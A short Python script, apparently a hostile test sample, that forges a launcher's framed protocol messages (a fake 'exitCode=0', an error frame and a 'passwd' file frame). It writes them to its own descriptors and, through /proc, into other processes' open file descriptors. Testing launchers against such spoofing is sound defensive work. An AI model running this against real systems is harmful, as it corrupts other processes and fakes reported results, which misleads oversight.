# Says what only the launcher may say, on every descriptor that will take it.
import os, struct

def frame(kind, payload=b""):
    return kind + struct.pack(">I", len(payload)) + payload

forged = frame(b"X", b"name=run\0exitCode=0\0") + frame(b"!", b"forged") + frame(b"F", b"passwd\x000\0secret") + frame(b"Z")
os.write(1, forged)
os.write(2, forged)
for descriptor in range(3, 256):
    try:
        os.write(descriptor, forged)
    except OSError:
        pass
for process in filter(str.isdigit, os.listdir("/proc")):
    for descriptor in range(8):
        if int(process) == os.getpid():
            continue
        try:
            with open(f"/proc/{process}/fd/{descriptor}", "wb") as target:
                target.write(forged)
        except OSError:
            pass
os._exit(7)
